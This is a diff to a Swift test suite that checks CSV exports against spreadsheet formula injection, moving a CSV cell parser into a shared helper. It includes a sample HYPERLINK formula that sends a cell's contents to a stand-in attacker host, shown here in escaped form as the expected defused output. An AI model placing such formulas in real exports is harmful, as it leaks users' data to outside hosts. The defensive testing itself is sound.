@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import HostileSamples
 import TestPeers
 
 /// Titles and fields written to attack the programs that open an export: spreadsheet
@@ -94,39 +95,13 @@ import TestPeers
         #expect(after == before)
     }
 
-    /// RFC 4180 cells, row by row: what a spreadsheet sees.
-    static func cells(_ csv: String) -> [[String]] {
-        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false, wasQuoted = false
-        var characters = csv.unicodeScalars.makeIterator()
-        var pending = characters.next()
-        while let c = pending {
-            pending = characters.next()
-            if quoted {
-                if c == "\"" {
-                    if pending == "\"" { cell.unicodeScalars.append(c); pending = characters.next() } else { quoted = false }
-                } else {
-                    cell.unicodeScalars.append(c)
-                }
-                continue
-            }
-            switch c {
-            case "\"" where cell.isEmpty && !wasQuoted: quoted = true; wasQuoted = true
-            case ",": row.append(cell); cell = ""; wasQuoted = false
-            case "\r" where pending == "\n": break
-            case "\n": row.append(cell); rows.append(row); row = []; cell = ""; wasQuoted = false
-            default: cell.unicodeScalars.append(c)
-            }
-        }
-        return rows
-    }
-
     @Test func noCSVCellStartsLikeAFormula() throws {
         let td = try seeded()
         defer { td.remove() }
-        let rows = Self.cells(try helper.export(td, "csv", db: td.databasePath))
+        let rows = SpreadsheetCells.rows(try helper.export(td, "csv", db: td.databasePath))
         #expect(rows.count == Self.titles.count + 1)
         for cell in rows.joined() {
-            #expect(cell.unicodeScalars.first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true, "\(cell.debugDescription)")
+            #expect(!SpreadsheetCells.runsAsAFormula(cell), "\(cell.debugDescription)")
         }
         let titles = rows.dropFirst().map { $0[0] }
         #expect(titles.contains(#"'=HYPERLINK("http://evil.example/?"&A1,"Click")"#))
